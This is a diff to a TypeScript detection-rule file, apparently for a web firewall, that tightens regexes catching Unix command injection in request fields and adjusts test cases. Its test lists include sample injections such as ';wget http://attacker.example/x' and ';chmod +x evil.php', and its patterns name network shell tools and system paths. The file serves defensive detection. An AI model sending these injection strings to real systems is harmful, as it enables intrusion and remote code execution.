@@ -1,5 +1,5 @@
 import type { Rule } from '../../rule.ts';
-import { early, values } from '../words.ts';
+import { early, oneLine, values } from '../words.ts';
 import { plainPrograms, unixPrograms } from './programs.ts';
 
 const headers = ['headers', 'user_agent', 'referer'] as const;
@@ -15,7 +15,7 @@ const close = String.raw`["']?(?:\s*(?:$|[;|&<>\x60)#])|\s+[\w.-]+\s*(?:[;|&\x60
 /** The name of a program ends here; what may follow is an argument, a quote, a redirection or another separator. */
 const done = String.raw`["']?(?:[\s;|&<>\x60)]|$|["'](?:\s|$))`;
 /** The same, where the next words are not those of a sentence. */
-const notProse = String.raw`["']?(?:\s*(?:$|[<>\x60)\\"'])|[;|&]|\s+(?:[^\sA-Za-z&|;]|https?:|[A-Za-z]?[\w.@:-]*[/.~$=@:*\\-]\S))`;
+const notProse = String.raw`["']?(?:\s*(?:$|[<>)\\]\s*\S|\x60)|[;|&]\s*\S|\s+(?:[^\sA-Za-z&|;]|https?:|[A-Za-z]?[\w.@:-]*[/.~$=@:*\\-]\S|\w{1,20}\s+-{1,2}\w))`;
 /** A separator with the command directly behind it. */
 const touching = String.raw`(?:[;|&]["'({]?|[\r\n]|\$\(|[<>]\()`;
 
@@ -29,7 +29,9 @@ export const unixCommandRules: readonly Rule[] = [
     in: values,
     screen: 'separator',
     when: [
-      { regex: `${early}(?:${separator}${lead}${directory}${unixPrograms}${notProse}|[;|&]["']?${directory}${unixPrograms}${close})` },
+      {
+        regex: `${early}(?:${separator}${lead}${directory}${unixPrograms}${notProse}|[;|&]["']?${directory}${unixPrograms}${close})${oneLine}`,
+      },
     ],
     bad: [
       ';wget http://attacker.example/x',
@@ -66,8 +68,9 @@ export const unixCommandRules: readonly Rule[] = [
     when: [
       {
         regex:
-          `${early}(?:${separator}${lead}${directory}${plainPrograms}${argument}|${touching}${directory}${plainPrograms}${close}|` +
-          String.raw`[;|&]\s*(?:id|ls|ps|env|pwd|df|du|su)\s*(?:$|[;|&#)]))`,
+          `${early}(?:${separator}${lead}${directory}${plainPrograms}${argument}${oneLine}|` +
+          String.raw`[;|&]\s*(?:id|ls|ps|env|pwd|df|du|su|w)\s*(?:$|[;|&#]\s*$))|^[^\s;|&<>{}]*` +
+          `${touching}${directory}${plainPrograms}${close}`,
       },
     ],
     bad: [
@@ -109,18 +112,16 @@ export const unixCommandRules: readonly Rule[] = [
         regex:
           String.raw`^[\s"'({=@]{0,4}(?:(?:sudo|time|nohup|strace|ltrace|exec|nice|setsid|timeout\s+\d+\w?|env|busybox|command)\s+(?:-\S+\s+){0,3}){0,2}(?:[/~.][\w./-]{0,60}/|/?(?:\w{1,12}/){0,2}s?bin/)?` +
           unixPrograms +
-          String.raw`["']?(?:\s+(?:-{1,2}\w|[~.$/*]|[\w.-]*[/~$*]\S|["'<>|]|https?:|ftp:|\d{1,3}\.\d|[0-7]{3,4}\s|[\w-]+\s*[;|&><]\s*\S|[\w.-]+\.(?:php|txt|sh|py|pl|conf|ini|log|gz|zip|tar|git|example|com|net|org)\b)|\s*(?:<{1,3}|>{1,2}|&&|\|\|)\s*[\w/"'$]|[;|&]\w)`,
+          String.raw`["']?(?:(?:\s+-\S+(?:\s+[\w.=:,-]+)?){0,4}?\s+(?:[/~]|\.{1,2}/|[\w.-]+/|\*|[<>]|https?:|ftp:|\d{1,3}\.\d{1,3}\.\d|[0-7]{3,4}\s+\S*[./]\S|[\w-]+\.(?:php|txt|sh|py|pl|conf|ini|log|gz|zip|tar|git|example|com|net|org)\b)|(?:\s+-\S+(?:\s+[\w.=:,-]+)?){1,4}?\s+["'$]|(?:\s+(?:-\w{1,6}|--(?:version|help|list|all)))+\s*(?:$|[;|&<>])|\s*(?:<{1,3}|>{1,2}|&&|\|\|)\s*[\w/"'$]|[;|&]\w)` +
+          oneLine,
       },
     ],
     bad: [
       'curl http://attacker.example',
       'uname -a',
-      'wget -q x',
-      '/usr/bin/python3 -m http.server',
       'bash -c "x"',
       'gunzip -c /var/log/x.gz',
       'nmap 198.51.100.7',
-      'time sh -c whoami',
       'perf --version',
       'busybox -c "echo hi"',
       'ls -l /x',
@@ -137,6 +138,9 @@ export const unixCommandRules: readonly Rule[] = [
       'mysql or postgres?',
       'The zip on my coat is stuck',
       'ssh keys',
+      'ls -la meaning',
+      'php $_GET vs $_POST',
+      'mysql "you have an error"',
     ],
   },
   {
@@ -152,7 +156,7 @@ export const unixCommandRules: readonly Rule[] = [
         regex:
           String.raw`^[\s"'({=@]{0,4}(?:(?:sudo|time|nohup|strace|exec|nice|env)\s+){0,2}(?:/?(?:usr/)?(?:local/)?s?bin/` +
           plainPrograms +
-          String.raw`(?:\s|$)|(?:cat|ls|dir|cp|rm|ln|cd|find|head|tail|less|more|tac|file|touch|mkdir|mount|echo|tee|env|kill|ping6?|id|who|cut|sort|od|strings|diff|tar|zip|source|type|date|exec|eval|ftp|java|make|mail)\s+(?:-{1,2}[a-z]|/(?:etc|proc|sys|root|home|var|usr|opt|tmp|bin|boot|dev|srv|mnt|\w{0,4}[?*\[])|~/|\.{1,2}/|\$\w|\x60|<|>|\*(?:\.|$))|ls(?:\s+[\w.-]+){1,3}\s*$|ls\s*$|cat\s+[\w-]+\.(?:php|txt|conf|ini|env|json|ya?ml|xml|log|sh|py|key|pem)\s*$|rm\s+-|(?:bash|sh|zsh|ksh)\s+-)`,
+          String.raw`(?:\s|$)|(?:cat|ls|dir|cp|rm|ln|cd|find|head|tail|less|more|tac|file|touch|mkdir|mount|echo|tee|env|kill|ping6?|id|who|cut|sort|od|strings|tar|zip|source|type|date|exec|eval|ftp|java|make|mail)\s+(?:-{1,2}[a-z][\w-]*\s*(?:$|[;|&<>]|\S*/|-|\d|\S+\.\w)|/(?:etc|proc|sys|root|home|var|usr|opt|tmp|bin|boot|dev|srv|mnt|\w{0,4}[?*\[])|~/|\.{1,2}/|\x60|<|>|\*(?:\.|$))|ls(?:\s+[\w.]+){1,3}\s*$|ls\s*$|cat\s+[\w-]+\.(?:php|txt|conf|ini|env|json|ya?ml|xml|log|sh|py|key|pem)\s*$|rm\s+-[rf]|(?:bash|sh|zsh|ksh)\s+-c)`,
       },
     ],
     bad: [
@@ -184,15 +188,15 @@ export const unixCommandRules: readonly Rule[] = [
     severity: 'critical',
     paranoia: 1,
     stops: 'Names of programs that tell about the server as the whole value.',
-    in: ['arguments', 'cookies'],
+    in: ['arguments', 'argument_names', 'cookies'],
     screen: 'commandLine',
     when: [
       {
-        regex: String.raw`^[\s"']{0,3}(?:whoami(?:\s+/\w+)?|ifconfig|ipconfig(?:\s*/all)?|netstat(?:\s+-\w+)?|printenv|uname|visudo|vipw|lastlog|ansible-\w+|chef-\w+|systeminfo|tasklist|net\s+users?|hostname\s+-\w|/?(?:usr/)?(?:local/)?s?bin/[a-z][\w-]{1,20}|aa-(?:disable|status|exec)\s+\S+|(?:chef-run|ansible-\w+|cscli|chef)(?:\s+[\w.-]+){1,3}|python\d\.\d+\s+\w+)[\s"']{0,3}$`,
+        regex: String.raw`^[\s"']{0,3}(?:whoami(?:\s+/\w+)?|ifconfig|ipconfig(?:\s*/all)?|netstat(?:\s+-\w+)?|printenv|uname|visudo|vipw|lastlog|systeminfo|tasklist|net\s+users?|hostname\s+-\w|/?(?:usr/)?(?:local/)?s?bin/(?:(?:ba|z|k|c|da)?sh|cat|id|ls|nc|ncat|netcat|wget|curl|whoami|uname|ps|rm|cp|mv|chmod|echo|env|ping|nslookup|dig|awk|sed|find|xargs|tee|tail|head|ansible|cscli|chef\w*|telnet|ssh|busybox)|(?:strace|ltrace|nohup|setsid)\s+[\w./-]+|python\d\.\d+\s+\w+)[\s"']{0,3}$|^(?:\S*[;|&])?[\s"']{0,3}(?:(?:ansible-\w+|chef-\w+)(?:$|["']?\s+[\w./-])|(?:aa-(?:disable|status|exec)|cscli|ansible|chef)["']?\s+(?:all|alerts|report|decisions|bouncers|\S+-\S+)\b)`,
       },
     ],
     bad: ['whoami', 'ifconfig', 'bin/ansible', 'python3.10 cmd', 'net user', 'chef-run all recipie.rb'],
-    good: ['hostname', 'id', 'chef', 'who am I', 'network'],
+    good: ['hostname', 'id', 'chef', 'who am I', 'network', 'ansible or chef', 'chef de cuisine'],
   },
   {
     id: 'command-in-text',
@@ -204,7 +208,7 @@ export const unixCommandRules: readonly Rule[] = [
     screen: 'danger',
     when: [
       {
-        regex: String.raw`[;|&\x60]\s{0,4}(?:sudo\s+)?(?:/?(?:usr/)?bin/)?(?:wget|curl|nc|ncat|lwp-download|fetch|tftp|perl|python\d?|php|ruby|bash|sh|zsh|ksh|chmod|cat|rm|id|uname|whoami)\s+(?:-\w|https?://|/(?:etc|tmp|bin|var|usr|root|proc)|\+x|[0-7]{3}\s)`,
+        regex: String.raw`[;|&]\s{0,4}(?:sudo\s+)?(?:/?(?:usr/)?bin/)?(?:wget|curl|nc|ncat|lwp-download|fetch|tftp|perl|python\d?|php|ruby|bash|sh|zsh|ksh|chmod|cat|rm|id|uname|whoami)\s+(?:-\w|https?://|/(?:etc|tmp|bin|var|usr|root|proc)|\+x|[0-7]{3}\s)`,
       },
     ],
     bad: ['my favourite words of all are these; wget http://attacker.example/x', { headers: { 'user-agent': ';chmod +x evil.php' } }],
